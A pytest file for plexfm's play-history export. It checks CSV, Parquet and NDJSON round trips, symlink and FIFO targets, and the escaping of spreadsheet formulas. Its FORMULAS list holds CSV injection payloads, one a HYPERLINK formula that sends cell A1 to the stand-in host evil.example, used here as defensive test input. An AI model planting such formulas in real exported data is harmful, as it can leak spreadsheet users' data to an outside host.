"""plexfm export: CSV, Parquet and NDJSON read back equal the store, in the documented schema."""

from __future__ import annotations

import csv
import json
import os
import re
import sys
from datetime import date
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sqlalchemy import Engine

from daemon.analytics.csvcells import formula_safe, formula_safe_frame
from daemon.analytics.export import COLUMNS, SCHEMA, arrow_schema, export
from daemon.analytics.report import AnalyticsSettings
from daemon.scrobble import Scrobble
from daemon.store import matches
from daemon.store.engine import write
from tests.test_analytics import PLAYS, fill, utc

SETTINGS = AnalyticsSettings("alice", ZoneInfo("Europe/Berlin"))
ROOT = Path(__file__).resolve().parent.parent


def expected() -> list[dict[str, Any]]:
    """The export as computed by hand from tests/test_analytics.py's history."""
    out = []
    for i, play in enumerate(PLAYS, 1):
        local = pd.Timestamp(play.uts, unit="s", tz="UTC").tz_convert("Europe/Berlin")
        dated = play.uts > 0
        genre = {"Rapper": "hip hop", "Jazzer": "jazz", "Rocker": "rock",
                 "Newbie": "rock"}.get(play.artist)
        matched = play.title == "R1"
        out.append({
            "scrobble_id": i, "user": "alice", "uts": play.uts,
            "played_at": local.tz_convert("UTC").isoformat().replace("+00:00", "Z")
            if dated else None,
            "local_date": local.date().isoformat() if dated else None,
            "local_hour": local.hour if dated else None,
            "artist": play.artist, "title": play.title, "album": play.album or None,
            "loved": {"J2": True, "B1": False}.get(play.title),
            "match_status": "auto" if matched else "queued" if play.title == "K1" else None,
            "plex_rating_key": 101 if matched else None,
            "plex_title": "R1 (Plex)" if matched else None,
            "plex_artist": "Rapper" if matched else None,
            "genre": genre, "genres": genre,
        })
    return out


def comparable(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    keys = expected()[0].keys()
    return [{k: row[k] for k in keys} for row in rows]


def test_parquet_round_trip_has_the_schema_and_the_rows(engine: Engine, tmp_path: Path) -> None:
    fill(engine)
    _match(engine)
    result = export(engine, SETTINGS, tmp_path / "plays.parquet", "parquet", chunk=4)
    assert result.rows == len(PLAYS)
    table = pq.read_table(tmp_path / "plays.parquet")
    assert table.schema.equals(arrow_schema())
    assert table.schema.metadata is None
    assert table.schema.field("played_at").type == pa.timestamp("us", tz="UTC")
    rows = table.to_pylist()
    for row in rows:
        row["played_at"] = row["played_at"].isoformat().replace("+00:00", "Z") \
            if row["played_at"] else None
        row["local_date"] = row["local_date"].isoformat() if row["local_date"] else None
    assert comparable(rows) == expected()
    assert rows[0]["added_at"].tzinfo is not None
    assert rows[0]["track_id"] is not None


def test_csv_round_trip(engine: Engine, tmp_path: Path) -> None:
    fill(engine)
    _match(engine)
    export(engine, SETTINGS, tmp_path / "plays.csv", "csv", chunk=3)
    frame = pd.read_csv(tmp_path / "plays.csv", dtype=str, keep_default_na=False)
    assert tuple(frame.columns) == COLUMNS
    rows = frame.to_dict("records")
    want = expected()
    for row, exp in zip(rows, want, strict=True):
        for key, value in exp.items():
            text = "" if value is None else str(value).lower() if key == "loved" else str(value)
            assert row[key] == text, (key, row[key], text)


def test_ndjson_round_trip(engine: Engine, tmp_path: Path) -> None:
    fill(engine)
    _match(engine)
    export(engine, SETTINGS, tmp_path / "plays.ndjson", "ndjson", chunk=5)
    lines = (tmp_path / "plays.ndjson").read_text(encoding="utf-8").splitlines()
    rows = [json.loads(line) for line in lines]
    assert comparable(rows) == expected()
    assert list(rows[0]) == list(COLUMNS)


@pytest.mark.parametrize("fmt", ["csv", "parquet", "ndjson"])
def test_since_exports_plays_from_local_midnight(engine: Engine, tmp_path: Path,
                                                 fmt: str) -> None:
    fill(engine)
    out = tmp_path / f"since.{fmt}"
    result = export(engine, SETTINGS, out, fmt, since=date(2021, 10, 31))
    assert result.rows == 6  # plays 5-10; the undated one has no date
    assert not list(tmp_path.glob(".*partial"))


@pytest.mark.parametrize("fmt", ["csv", "parquet", "ndjson"])
def test_empty_export_is_a_valid_empty_file(engine: Engine, tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"empty.{fmt}"
    assert export(engine, SETTINGS, out, fmt).rows == 0
    if fmt == "parquet":
        assert pq.read_table(out).num_rows == 0
    elif fmt == "csv":
        assert out.read_text().strip().split(",") == list(COLUMNS)
    else:
        assert out.read_text() == ""


def test_docs_describe_every_column_and_the_load_commands() -> None:
    text = (ROOT / "docs" / "export.md").read_text(encoding="utf-8")
    for name, kind, _desc in SCHEMA:
        assert f"| `{name}` | {kind} |" in text, name
    for command in ("bq load --source_format=PARQUET", "SELECT * FROM 'plays.parquet'",
                    "Tableau"):
        assert command in text


def _match(engine: Engine) -> None:
    from daemon.analytics.rollup import refresh

    refresh(engine, SETTINGS.zone, SETTINGS.rules)  # folds the scrobbled tracks
    with write(engine) as conn:
        conn.exec_driver_sql(
            "INSERT INTO library_tracks (rating_key, section_id, title, track_artist,"
            " album_artist, album, refreshed_at) VALUES (101, 1, 'R1 (Plex)', '', 'Rapper',"
            " 'Raps', 0)")
        conn.exec_driver_sql("UPDATE scrobbles SET loved = 1 WHERE title = 'J2'")
        conn.exec_driver_sql("UPDATE scrobbles SET loved = 0 WHERE title = 'B1'")
        matches.save_decisions(conn, [
            matches.Decision(matches.find_track(conn, "Rapper", "R1", "Raps") or 0, "auto", 101),
            matches.Decision(matches.find_track(conn, "Rocker", "K1", "") or 0, "queued", None),
        ], "test")


def test_parquet_without_pyarrow_is_one_clear_error(engine: Engine, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    from daemon.errors import PlexfmError

    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    with pytest.raises(PlexfmError, match="needs pyarrow"):
        export(engine, SETTINGS, tmp_path / "plays.parquet", "parquet")
    assert not list(tmp_path.glob("*plays.parquet*"))


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-1+2", "@SUM(1)",
            "\tTAB", "\rCR", "\uff1dHYPERLINK(1)", "\uff0b1", "\uff0d1", "\uff20SUM(1)"]


def test_csv_text_that_a_spreadsheet_would_run_gets_an_apostrophe(engine: Engine,
                                                                   tmp_path: Path) -> None:
    plays = [Scrobble(utc("2022-03-01T12:00:00") + i, text, text, text)
             for i, text in enumerate(FORMULAS)]
    plays.append(Scrobble(utc("2022-03-02T12:00:00"), "Plain", "it's -fine\r=HYPERLINK(1)",
                          "A=B\n@SUM(1)"))
    fill(engine, plays)
    export(engine, SETTINGS, tmp_path / "plays.csv", "csv")
    with (tmp_path / "plays.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["artist"] for row in rows] == ["'" + text for text in FORMULAS] + ["Plain"]
    for row in rows:
        for column in ("title", "album"):
            assert row[column] == row["artist"] or row["artist"] == "Plain"
        for column, kind, _desc in SCHEMA:
            if kind == "int64" and row[column]:
                int(row[column])  # numbers stay numbers
    assert rows[-1]["title"] == "it's -fine\r=HYPERLINK(1)"  # one cell: a CR cannot end the row
    assert rows[-1]["album"] == "A=B\n@SUM(1)"
    ndjson = export(engine, SETTINGS, tmp_path / "plays.ndjson", "ndjson")  # exact there
    lines = (tmp_path / "plays.ndjson").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["artist"] for line in lines][: ndjson.rows - 1] == FORMULAS


def test_the_rule_touches_text_only() -> None:
    frame = pd.DataFrame({"n": [-5, 3, -1], "f": [-1.5, 2.0, -0.25],
                          "t": ["-5", "@x", None], "k": pd.array([-7, None, 2], dtype="Int64")})
    out = formula_safe_frame(frame)
    assert out["n"].tolist() == [-5, 3, -1]
    assert out["f"].tolist() == [-1.5, 2.0, -0.25]
    assert out["k"].tolist()[0] == -7
    assert out["t"].tolist()[:2] == ["'-5", "'@x"]
    assert out["t"].isna().tolist()[2]
    assert [formula_safe(v) for v in (-5, -1.5, "-5", "=1", "a=1", None, True)] == \
        [-5, -1.5, "'-5", "'=1", "a=1", None, True]


def test_every_csv_writer_uses_the_one_rule() -> None:
    writers = [path for path in (ROOT / "daemon").rglob("*.py")
               if re.search(r"csv\.writer|\.to_csv\(|DictWriter", path.read_text("utf-8"))]
    assert writers  # the export and the charts
    for path in writers:
        assert "formula_safe" in path.read_text("utf-8"), path


def test_an_export_through_a_symlink_replaces_the_file_it_names(engine: Engine,
                                                                tmp_path: Path) -> None:
    fill(engine, PLAYS)
    (tmp_path / "real").mkdir()
    target = tmp_path / "real" / "plays.csv"
    target.write_text("old\n")
    link = tmp_path / "plays.csv"
    link.symlink_to(target)
    assert export(engine, SETTINGS, link, "csv").rows == len(PLAYS)
    assert link.is_symlink()  # the link stays a link...
    assert target.read_text().startswith(",".join(COLUMNS))  # ...to the new export
    assert sorted(p.name for p in (tmp_path / "real").iterdir()) == ["plays.csv"]


def test_an_export_into_a_fifo_writes_into_it_and_leaves_it_a_fifo(engine: Engine,
                                                                   tmp_path: Path) -> None:
    """Not replaced by a regular file: neither a FIFO nor a device such as /dev/stdout (a
    root plexfm would otherwise put a file in /dev)."""
    import stat

    fill(engine, PLAYS)
    fifo = tmp_path / "plays.fifo"
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)  # open first: the export never waits
    try:
        assert export(engine, SETTINGS, fifo, "csv").rows == len(PLAYS)  # far below 64 KiB
        got = os.read(reader, 1 << 20).decode()
    finally:
        os.close(reader)
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert got.count("\n") == len(PLAYS) + 1  # the header and every play
    assert not list(tmp_path.glob("*partial*"))
